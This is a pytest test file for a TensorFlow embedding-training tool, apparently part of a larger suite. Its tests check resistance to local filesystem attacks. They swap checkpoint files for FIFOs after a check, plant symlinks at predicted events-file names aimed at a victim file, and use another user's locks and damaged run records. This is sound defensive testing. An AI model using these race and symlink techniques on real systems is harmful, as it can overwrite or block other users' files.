                training.save_checkpoint(session, model, tf1.summary.FileWriter(str(folder)),
                                         str(folder), 4)
    finally:
        atomic_files.unpin(str(folder))
    assert not [name for name in os.listdir(folder / run_folder.CHECKPOINT_DIR) if ".tmp" in name]


def test_a_checkpoint_file_swapped_for_a_fifo_after_its_check_is_not_waited_on(tmp_path):
    """TensorFlow opens a checkpoint's files by path, seconds after they were checked: the paths it
    is given lead to the files as they were checked, whatever is put in their place since."""
    import checkpoint_files
    part = tmp_path / "model.ckpt-7.data-00000-of-00001"
    part.write_bytes(b"the checkpoint's numbers")
    private_folders = os.path.join(tempfile.gettempdir(), "bands2vec-checkpoint-*")
    before = set(glob.glob(private_folders))
    with checkpoint_files.readable([str(part)]) as private:
        os.rename(part, tmp_path / "moved")
        os.mkfifo(part)  # a read of the path itself would wait for a writer for ever
        with open(os.path.join(private, part.name), "rb") as read:
            assert read.read() == b"the checkpoint's numbers"
    assert set(glob.glob(private_folders)) == before  # removed
    with pytest.raises(checkpoint_files.UnreadableCheckpoint,
                       match=f"^{re.escape(str(part))}: not a regular file \\(a FIFO"):
        with checkpoint_files.readable([str(part)]):
            pass


def _swapped_part_reads_as_checked(tmp_path):
    import checkpoint_files
    part = tmp_path / "checkpoints" / "model.ckpt-7.data-00000-of-00001"
    part.parent.mkdir()
    part.write_bytes(b"the checkpoint's numbers")
    with checkpoint_files.readable([str(part)]) as private:
        os.rename(part, tmp_path / "moved")
        os.mkfifo(part)
        fd = os.open(os.path.join(private, part.name), os.O_RDONLY | os.O_NONBLOCK)  # a FIFO: b""
        try:
            return private, os.read(fd, 100), os.listdir(part.parent)
        finally:
            os.close(fd)


def test_with_no_temporary_folder_the_private_one_is_made_beside_the_checkpoint(tmp_path,
                                                                              monkeypatch):
    not_a_folder = tmp_path / "tmp-is-a-file"
    not_a_folder.write_text("")
    monkeypatch.setattr(tempfile, "tempdir", str(not_a_folder))
    private, read, beside = _swapped_part_reads_as_checked(tmp_path)
    assert private.startswith("/proc/self/fd/") and read == b"the checkpoint's numbers"
    assert any(name.startswith("bands2vec-checkpoint-") for name in beside)
    assert sorted(os.listdir(tmp_path / "checkpoints")) == ["model.ckpt-7.data-00000-of-00001"]


def test_where_no_link_can_be_made_the_checkpoints_own_folder_is_read(tmp_path, monkeypatch):
    def no_room(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "symlink", no_room)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    os.mkdir(tmp_path / "tmp")
    import checkpoint_files
    part = tmp_path / "model.ckpt-7.index"
    part.write_bytes(b"index")
    with checkpoint_files.readable([str(part)]) as folder:
        assert folder == str(tmp_path)
    assert os.listdir(tmp_path / "tmp") == []


def test_a_checkpoint_missing_one_of_its_shards_is_named(tmp_path):
    import checkpoint_files
    checkpoint = tmp_path / "model.ckpt-7"
    for part in (".index", ".data-00000-of-00002"):
        (tmp_path / f"model.ckpt-7{part}").write_bytes(b"")
    with pytest.raises(checkpoint_files.UnreadableCheckpoint,
                       match=f"^{re.escape(str(checkpoint))}.data-00001-of-00002: missing; "):
        checkpoint_files.checkpoint_parts(str(checkpoint))
    (tmp_path / "model.ckpt-7.data-00001-of-00002").write_bytes(b"")
    assert len(checkpoint_files.checkpoint_parts(str(checkpoint))) == 3


@pytest.mark.slow  # reads the checkpoint state with TensorFlow
@pytest.mark.parametrize("named", ["./model.ckpt-300", "../checkpoints/model.ckpt-300"])
def test_a_checkpoint_named_by_another_relative_path_is_the_runs_own(demo_copy, named):
    import checkpoint_files
    state = demo_copy / run_folder.CHECKPOINT_DIR / "checkpoint"
    state.write_text(f'model_checkpoint_path: "{named}"\n')
    assert checkpoint_files.latest_checkpoint(str(demo_copy)) == \
        str(demo_copy / run_folder.CHECKPOINT_DIR / "model.ckpt-300")


@pytest.mark.slow  # restores in-process
def test_a_run_resumes_from_the_checkpoint_it_checked_not_from_one_swapped_in(demo_copy):
    import checkpoint_files
    import training
    from bands2vec_graph import build_graph, member_variable, tf, tf1
    checkpoint = checkpoint_files.latest_checkpoint(str(demo_copy))
    saved = tf.train.load_checkpoint(checkpoint).get_tensor(member_variable(0))
    options = run_record.read(str(demo_copy)).options
    model = build_graph(len(saved), options.embedding_size, options.num_sampled, seed=options.seed)
    with tf1.Session(graph=model.graph) as session, \
            checkpoint_files.readable_checkpoint(checkpoint) as prefix:
        for part in checkpoint_files.checkpoint_parts(checkpoint):
            os.rename(part, f"{part}.moved")
            os.mkfifo(part)
        training.restore(session, model, checkpoint, prefix)
        assert np.array_equal(session.run(model.embeddings), saved)


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user takes root")
def test_another_users_run_folder_is_not_written(demo_copy):
    os.chown(demo_copy, 65534, 65534)  # nobody's: its owner may have put anything in it
    run = bands2vec.open_run(str(demo_copy.parent), "r")
    with pytest.raises(RunError, match="another user's folder, and a run is written only in "
                                       "folders of its own; copy the run to a folder of yours to "
                                       "write it"):
        run.export()


def _another_users_lock(folder, holder=b""):
    lock = run_folder.lock_path(str(folder))
    with open(lock, "wb") as f:
        f.write(holder)
    os.chown(lock, 65534, 65534)
    return lock


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user takes root")
def test_a_stale_lock_of_another_users_is_taken_over_where_it_can_be_removed(demo_copy):
    _another_users_lock(demo_copy)
    bands2vec.open_run(str(demo_copy.parent), "r").export()
    assert not os.path.lexists(run_folder.lock_path(str(demo_copy)))


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user takes root")
def test_a_live_writer_of_another_users_is_named(demo_copy):
    lock = _another_users_lock(demo_copy, b"process 4242 (run.py --resume --run r)")
    held = os.open(lock, os.O_RDONLY)
    try:
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} is being written by "
                                           f"process 4242 \\(run.py --resume --run r\\); wait"):
            bands2vec.open_run(str(demo_copy.parent), "r").export()
    finally:
        os.close(held)


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user takes root")
@pytest.mark.parametrize("mode, problem", [
    (0o644, "left by a run of another user's (uid 65534), cannot be removed "
            "(Operation not permitted); ask them"),
    (0o000, "cannot be opened (Permission denied; it is uid 65534's); remove it, or ask"),
], ids=["readable", "mode 000"])
def test_a_stale_lock_of_another_users_in_a_sticky_folder_is_refused_before_any_work(mode, problem):
    """In a sticky log folder a lock of another user's cannot be removed: export did its work, then
    ended on `.r.lock: Operation not permitted`; one of mode 000 was blamed on the run's folder.
    Tried as a third user, in a child process."""
    logs = pathlib.Path(tempfile.mkdtemp())  # pytest's folders are root's alone
    try:
        os.chmod(logs, 0o1777)
        lock = _another_users_lock(logs / "r")
        os.chmod(lock, mode)
        refusal = _refusal_as_a_third_user(logs / "r")
        assert (refusal.startswith(f"{lock}: the lock of {logs / 'r'}")
                and problem in refusal), refusal
        assert os.stat(lock).st_uid == 65534
    finally:
        shutil.rmtree(logs)


def _refusal_as_a_third_user(folder):
    """What run_folder.writing(folder) refuses with, as a user who owns neither the folder's logs
    nor its lock."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:  # never returns to pytest
        try:
            os.close(read)
            os.setgid(65533)
            os.setuid(65533)
            try:
                with run_folder.writing(str(folder)):
                    os.write(write, b"locked")
            except RunError as error:
                os.write(write, str(error).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as said:
        message = said.read().decode()
    os.waitpid(child, 0)
    return message


@pytest.mark.slow  # resumes in-process
def test_links_planted_at_the_events_files_coming_names_are_not_followed(demo_copy, tmp_path):
    victim = _victim(tmp_path)
    now = int(time.time())
    for second in range(now, now + 120):  # TensorFlow names its events file by the time and host
        os.symlink(victim, demo_copy / f"events.out.tfevents.{second}.{socket.gethostname()}")
    bands2vec.resume(str(demo_copy.parent), "r", steps=400, plots=False, say=quiet)
    assert victim.read_text() == "the user's notes\n"
    written = [name for name in os.listdir(demo_copy) if name.startswith("events.out.tfevents.")
               and not os.path.islink(demo_copy / name)]
    assert any(re.fullmatch(r"events\.out\.tfevents\.\d+\..+\.[0-9a-f]{8}", name)
               for name in written)


def test_a_damaged_newest_run_does_not_block_the_questions_of_a_log_folder(demo_copy, tmp_path):
    """Anyone who may write in the logs could leave a newer run with a damaged run.json: questions
    that name no run are answered by the newest that can, saying which was skipped."""
    logs = demo_copy.parent
    for name, age in (("newer", 10), ("newest", 20)):
        shutil.copytree(demo_copy, logs / name)
        (logs / name / run_record.RUN_FILE).write_text("{not json")
        os.utime(logs / name / run_record.RUN_FILE, (time.time() + age,) * 2)
    with pytest.warns(UserWarning) as said:
        assert bands2vec.open_run(str(logs)).folder == str(demo_copy)
    assert [str(warning.message).split(": ")[0] for warning in said] == [
        f"skipped {logs / 'newest'}", f"skipped {logs / 'newer'}"]
    assert all(str(warning.message).endswith(f"; answering from {demo_copy}, the newest run that "
                                             f"can answer")
               and "unreadable run.json (not JSON" in str(warning.message) for warning in said)
    (demo_copy / run_record.RUN_FILE).write_text("[]")
    # none can: the newest's
    with pytest.raises(RunError, match=f"^{logs / 'newest'}: unreadable run.json"):
        run_folder.find_run(str(logs), usable=True)


def test_a_file_overwrite_cannot_remove_is_named_by_its_path(tmp_path, monkeypatch):
    """One put there after the check (the check is
    test_overwrite_of_a_run_holding_another_users_folder...): shutil.rmtree names it `f`, by its
    name only."""
    folder = tmp_path / "r"
    (folder / "junk").mkdir(parents=True)
    (folder / "junk" / "f").write_text("x")
    unlink = os.unlink

    def refused(name, *args, **kwargs):
        if name == "f":
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), name)
        return unlink(name, *args, **kwargs)

    monkeypatch.setattr(run_folder, "_is_a_run", lambda folder: True)
    monkeypatch.setattr(os, "unlink", refused)
    with pytest.raises(PermissionError) as raised:
        run_folder.make_run_folder(str(folder), overwrite=True)
    assert raised.value.filename == str(folder / "junk" / "f")


def test_a_finished_run_without_its_metadata_says_so(demo_copy):
    """Probe 16: `no vectors to ask yet (its state: finished); tensorboard --logdir ...`, which
    restores nothing."""
    (demo_copy / metadata.METADATA_FILE).unlink()
    with pytest.raises(RunError) as refused:
        run_folder.find_run(str(demo_copy.parent), "r", usable=True)
    assert str(refused.value) == (f"{demo_copy}: a finished run without its metadata.tsv, which "
                                  f"labels its vectors and only its training writes: put it back")
